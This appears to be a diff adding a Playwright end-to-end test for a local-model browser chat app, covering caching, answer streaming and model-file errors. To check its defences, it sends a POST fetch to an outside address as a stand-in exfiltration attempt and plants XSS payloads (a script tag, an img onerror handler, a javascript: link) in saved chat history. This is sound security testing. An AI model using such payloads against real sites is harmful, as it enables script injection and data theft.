@@ -1,0 +1,279 @@
+// End-to-end test of the browser app: serves dist/ and tiny fixture models on 127.0.0.1 (with
+// HTTP Range support), drives headless Chromium (WebGPU on SwiftShader) through playwright-core,
+// and checks what a user would see.
+//
+//   node tests/e2e/chat.mjs   (scripts/test-web.sh sets the environment below)
+//
+// CAREBOT_DIST: the built app; CAREBOT_BIN: the `carebot` binary (the reference answer);
+// CAREBOT_E2E_MODEL: the tiny model;
+// PLAYWRIGHT_CORE: path of the playwright-core package; CAREBOT_E2E_OUT: where the screenshots go.
+
+import { createServer } from "node:http";
+import { createRequire } from "node:module";
+import { execFileSync } from "node:child_process";
+import { readFileSync, existsSync, mkdirSync, statSync } from "node:fs";
+import { join, extname, resolve } from "node:path";
+import { strict as assert } from "node:assert";
+
+const ROOT = resolve(new URL("../..", import.meta.url).pathname);
+const DIST = process.env.CAREBOT_DIST || join(ROOT, "dist");
+const BIN = process.env.CAREBOT_BIN || join(ROOT, "target/release/carebot");
+const OUT = process.env.CAREBOT_E2E_OUT || join(ROOT, "target/e2e");
+const require = createRequire(import.meta.url);
+const { chromium } = require(process.env.PLAYWRIGHT_CORE || join(ROOT, "target/web-tools/node_modules/playwright-core"));
+mkdirSync(OUT, { recursive: true });
+
+// ---- the models the server offers -------------------------------------------------------------
+// The deterministic tiny Llama-3 of the Rust tests (byte vocabulary, Llama-3 chat format), written by
+// `cargo run -p carebot-model --example synthetic_gguf`.
+const MODEL_PATH = process.env.CAREBOT_E2E_MODEL || join(OUT, "tiny.gguf");
+const model = readFileSync(MODEL_PATH);
+// The same file claiming another architecture ("bloom" has the length of "llama").
+const otherArch = Buffer.from(model);
+{
+    const key = Buffer.from("general.architecture");
+    const at = otherArch.indexOf(key) + key.length + 4 + 8; // type (u32), length (u64)
+    assert.equal(otherArch.subarray(at, at + 5).toString(), "llama");
+    otherArch.write("bloom", at);
+}
+const notGguf = Buffer.alloc(300_000, 0x5a);
+const MODELS = {
+    "/models/tiny.gguf": { body: model, range: true },
+    "/models/bloom.gguf": { body: otherArch, range: true },
+    "/models/notes.gguf": { body: notGguf, range: true },
+    "/norange/tiny.gguf": { body: model, range: false },
+};
+
+const requests = [];
+const TYPES = { ".html": "text/html", ".js": "text/javascript", ".wasm": "application/wasm", ".css": "text/css", ".svg": "image/svg+xml" };
+
+const server = createServer((req, res) => {
+    const path = decodeURIComponent(new URL(req.url, "http://x").pathname);
+    requests.push(path);
+    const m = MODELS[path];
+    if (m) {
+        const size = m.body.length;
+        const range = req.headers.range && /^bytes=(\d+)-(\d*)$/.exec(req.headers.range);
+        if (m.range && range) {
+            const start = Number(range[1]);
+            const end = Math.min(range[2] ? Number(range[2]) : size - 1, size - 1);
+            if (start >= size) {
+                res.writeHead(416, { "Content-Range": `bytes */${size}` });
+                return res.end();
+            }
+            res.writeHead(206, { "Content-Range": `bytes ${start}-${end}/${size}`, "Content-Length": end - start + 1, "Accept-Ranges": "bytes" });
+            return res.end(m.body.subarray(start, end + 1));
+        }
+        res.writeHead(200, { "Content-Length": size });
+        return res.end(m.body);
+    }
+    if (path.startsWith("/models/")) {
+        res.writeHead(404);
+        return res.end("not found");
+    }
+    let file = join(DIST, path === "/" ? "index.html" : path);
+    if (!file.startsWith(DIST) || !existsSync(file) || statSync(file).isDirectory()) file = join(DIST, "index.html");
+    res.writeHead(200, { "Content-Type": TYPES[extname(file)] || "application/octet-stream" });
+    res.end(readFileSync(file));
+});
+await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
+const BASE = `http://127.0.0.1:${server.address().port}`;
+
+// ---- the browser ------------------------------------------------------------------------------
+const browser = await chromium.launch({
+    executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
+    headless: true,
+    args: ["--no-sandbox", "--disable-gpu-sandbox", "--enable-unsafe-webgpu", "--no-first-run",
+        "--disable-background-networking", "--disable-component-update", "--disable-sync"],
+});
+const context = await browser.newContext({ viewport: { width: 1200, height: 860 } });
+const offsite = [];
+const consoleErrors = [];
+context.on("request", (r) => {
+    const u = new URL(r.url());
+    if (!["blob:", "data:"].includes(u.protocol) && u.hostname !== "127.0.0.1") offsite.push(r.url());
+});
+const TIMEOUT = Number(process.env.CAREBOT_E2E_TIMEOUT_MS || 240_000);
+
+async function open(query, { collectErrors = true } = {}) {
+    const page = await context.newPage();
+    page.setDefaultTimeout(TIMEOUT);
+    if (collectErrors) {
+        page.on("console", (m) => m.type() === "error" && consoleErrors.push(`${query}: ${m.text()}`));
+        page.on("pageerror", (e) => consoleErrors.push(`${query}: ${e.message}`));
+    }
+    await page.goto(`${BASE}/${query}`);
+    return page;
+}
+
+const state = (page) => page.getAttribute('[data-testid="model-status"]', "data-state");
+async function waitState(page, wanted) {
+    await page.waitForFunction(
+        (w) => w.includes(document.querySelector('[data-testid="model-status"]')?.dataset.state),
+        wanted, { timeout: TIMEOUT });
+    return state(page);
+}
+
+async function ask(page, text) {
+    const before = await page.locator('[data-testid="assistant-message"]').count();
+    await page.fill('[data-testid="chat-input"]', text);
+    await page.click('[data-testid="send"]');
+    await page.waitForFunction(
+        (n) => document.querySelectorAll('[data-testid="assistant-message"]').length > n,
+        before);
+    return before;
+}
+
+async function answer(page, index) {
+    const sel = '[data-testid="assistant-message"]';
+    await page.waitForFunction(([s, i]) => document.querySelectorAll(s)[i]?.dataset.done === "true", [sel, index], { timeout: TIMEOUT });
+    return page.locator(sel).nth(index).getAttribute("data-text");
+}
+
+function reference(prompt, maxTokens) {
+    const out = execFileSync(BIN, ["generate", "--model", MODEL_PATH, "--chat", "--prompt", prompt,
+        "--temperature", "0", "--max-tokens", String(maxTokens)], { env: { ...process.env, XDG_RUNTIME_DIR: "/tmp" } });
+    return out.toString("utf8").replace(/\n$/, "");
+}
+
+let step = "start";
+const t0 = Date.now();
+const log = (msg) => console.log(`[${((Date.now() - t0) / 1000).toFixed(1)}s] ${msg}`);
+try {
+    // 1. First visit: download through ?model=, chat, compare with the CLI.
+    step = "first visit";
+    const query = "?model=/models/tiny.gguf&temperature=0&max_tokens=24&system=";
+    let page = await open(query);
+    await page.click('[data-testid="accept-disclaimer"]');
+    // A model under 1 MiB is whole after the probe's first read, so it may load without asking.
+    const first = await waitState(page, ["probed", "loading", "ready", "failed"]);
+    assert.notEqual(first, "failed", await page.textContent('[data-testid="model-status"]'));
+    if (first === "probed") await page.click('[data-testid="load-model"]');
+    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
+    log(`model loaded: ${(await page.textContent('[data-testid="model-status"]')).trim()}`);
+    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
+    assert.ok(csp && csp.includes("connect-src 'self'") && csp.includes("default-src 'self'"), `CSP: ${csp}`);
+
+    const question = "I have had a headache for three days. What should I do?";
+    const i = await ask(page, question);
+    const got = await answer(page, i);
+    const want = reference(question, 24);
+    log(`answer: ${JSON.stringify(got)}`);
+    assert.equal(got, want, "the streamed answer differs from `carebot generate --chat` (greedy)");
+    assert.match(await page.locator('[data-testid="answer-stats"]').last().textContent(), /tokens/);
+    assert.match(await page.textContent('[data-testid="context-meter"]'), /\/ 256/);
+    await page.screenshot({ path: join(OUT, "chat.png"), fullPage: true });
+
+    // A fetch to another origin is refused by the page's policy (nothing typed can leave).
+    const blocked = await page.evaluate(async () => {
+        try { await fetch("http://198.51.100.7/collect", { method: "POST", body: "x" }); return false; } catch { return true; }
+    });
+    assert.ok(blocked, "the Content-Security-Policy let a request to another origin through");
+    consoleErrors.splice(0); // the refused fetch above logs a CSP error on purpose
+
+    // 2. Reload: the conversation is in the sidebar, the model loads from the cache, no network.
+    step = "second visit";
+    await page.close();
+    const seen = requests.length;
+    page = await open("?model=/models/tiny.gguf&temperature=0&max_tokens=60&system=");
+    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
+    const modelRequests = requests.slice(seen).filter((p) => p.startsWith("/models/"));
+    assert.deepEqual(modelRequests, [], "the cached model was fetched again");
+    const titles = await page.locator('[data-testid="history"] li').allTextContents();
+    assert.ok(titles.some((t) => t.includes("I have had a headache")), `history: ${titles}`);
+    // The conversation is back on screen, answer and all.
+    assert.equal(await page.locator('[data-testid="assistant-message"]').first().getAttribute("data-text"), want);
+    log(`reloaded from cache; history: ${titles.length} conversation(s)`);
+
+    // 3. Stop ends the answer early; regenerate and edit-and-resend work.
+    step = "stop";
+    const j = await ask(page, "Tell me about fever in children.");
+    await page.waitForFunction((k) => (document.querySelectorAll('[data-testid="assistant-message"]')[k]?.dataset.text || "").length > 0, j);
+    await page.click('[data-testid="stop"]');
+    const stopped = await answer(page, j);
+    const stats = await page.locator('[data-testid="answer-stats"]').last().textContent();
+    const generated = Number(/^(\d+)/.exec(stats)[1]);
+    assert.ok(generated < 60 && /stopped/.test(stats), `stop: ${stats}`);
+    log(`stopped after ${generated} tokens (${JSON.stringify(stopped).length} chars)`);
+    await page.click('[data-testid="regenerate"]');
+    await answer(page, j);
+    await page.locator('[data-testid="edit"]').last().click();
+    assert.equal(await page.inputValue('[data-testid="chat-input"]'), "Tell me about fever in children.");
+    await page.fill('[data-testid="chat-input"]', question);
+    await page.click('[data-testid="send"]');
+    // With the same greedy settings the edited question gets the same first tokens as before.
+    const k = (await page.locator('[data-testid="assistant-message"]').count()) - 1;
+    const again = await answer(page, k);
+    assert.ok(again.startsWith(want), `edit-and-resend: ${JSON.stringify(again)} vs ${JSON.stringify(want)}`);
+    // The earlier turns no longer fit the 256-token context beside a 60-token answer.
+    assert.ok(await page.locator('[data-testid="dropped-notice"]').last().isVisible());
+    await page.screenshot({ path: join(OUT, "second-visit.png"), fullPage: true });
+
+    // 4. Untrusted model output never becomes markup: a saved answer full of HTML and script links.
+    step = "markdown safety";
+    await page.evaluate(() => new Promise((ok, fail) => {
+        const r = indexedDB.open("carebot", 1);
+        r.onerror = () => fail(r.error);
+        r.onsuccess = () => {
+            const evil = "**bold** advice\n\n<script>window.__pwned = 1</script>\n\ntext <img src=x onerror=\"window.__pwned = 2\"> and [click](javascript:window.__pwned=3)";
+            const c = { id: "evil", title: "evil", created: 1, updated: Date.now() + 1e6,
+                turns: [{ role: "user", content: "hi" }, { role: "assistant", content: evil }] };
+            const tx = r.result.transaction("conversations", "readwrite");
+            tx.objectStore("conversations").put({ id: "evil", json: JSON.stringify(c) });
+            tx.oncomplete = ok;
+            tx.onerror = () => fail(tx.error);
+        };
+    }));
+    await page.reload();
+    await page.locator('[data-testid="history"] li button.open', { hasText: "evil" }).click();
+    const md = page.locator('[data-testid="assistant-message"] .markdown').last();
+    await md.locator("strong").waitFor();
+    assert.equal(await md.locator("script, img, a[href^='javascript']").count(), 0, await md.innerHTML());
+    assert.match(await md.textContent(), /<script>/);
+    assert.equal(await page.evaluate(() => window.__pwned), undefined);
+    await page.screenshot({ path: join(OUT, "markdown-safety.png"), fullPage: true });
+    await page.close();
+
+    // 5. Bad sources give a clear message and leave the app usable.
+    step = "bad sources";
+    for (const [url, kind] of [
+        ["/models/missing.gguf", "NotFound"],
+        ["/norange/tiny.gguf", "NoRange"],
+        ["/models/notes.gguf", "NotGguf"],
+        ["/models/bloom.gguf", "WrongArchitecture"],
+    ]) {
+        const p = await open(`?model=${url}`, { collectErrors: false });
+        assert.equal(await waitState(p, ["failed", "probed", "ready"]), "failed", url);
+        assert.equal(await p.getAttribute('[data-testid="model-error"]', "data-kind"), kind, url);
+        assert.ok(await p.isVisible('[data-testid="retry"]'));
+        assert.equal(await p.locator('[data-testid="model-file"]').count(), 1);
+        log(`${url}: ${(await p.textContent('[data-testid="model-error"]')).trim()}`);
+        if (kind === "NoRange") await p.screenshot({ path: join(OUT, "no-range.png"), fullPage: true });
+        await p.close();
+    }
+
+    // 6. The cached model can be deleted; the next visit would download it again.
+    step = "delete cache";
+    page = await open("?model=/models/tiny.gguf&system=");
+    await waitState(page, ["ready"]);
+    await page.click('[data-testid="model-status"] summary');
+    const before = requests.filter((p) => p === "/models/tiny.gguf").length;
+    await page.click('[data-testid="delete-cache"]');
+    // Deleted: looking at the model again has to download it.
+    await page.waitForFunction(() => document.querySelector(".notice"));
+    assert.notEqual(await waitState(page, ["probed", "ready", "failed"]), "failed");
+    assert.ok(requests.filter((p) => p === "/models/tiny.gguf").length > before, "the model was not downloaded again");
+    await page.close();
+
+    assert.deepEqual(consoleErrors, [], "console errors");
+    assert.deepEqual(offsite, [], "requests left 127.0.0.1");
+    log("all browser checks passed");
+} catch (e) {
+    console.error(`e2e failed during "${step}": ${e.stack || e}`);
+    for (const p of context.pages()) await p.screenshot({ path: join(OUT, "failure.png"), fullPage: true }).catch(() => {});
+    console.error(`console errors: ${JSON.stringify(consoleErrors, null, 1)}`);
+    process.exitCode = 1;
+} finally {
+    await browser.close();
+    server.close();
+}
